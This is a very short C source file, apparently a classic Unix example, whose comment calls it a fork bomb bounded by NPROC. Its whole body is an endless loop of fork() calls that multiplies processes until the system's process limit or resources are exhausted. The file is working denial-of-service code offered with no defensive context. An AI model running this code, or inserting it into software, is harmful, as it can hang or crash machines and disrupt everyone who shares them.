/* bomb: a fork bomb; NPROC bounds it, and every copy goes on asking. */
main()
{
	for (;;)
		fork();
}
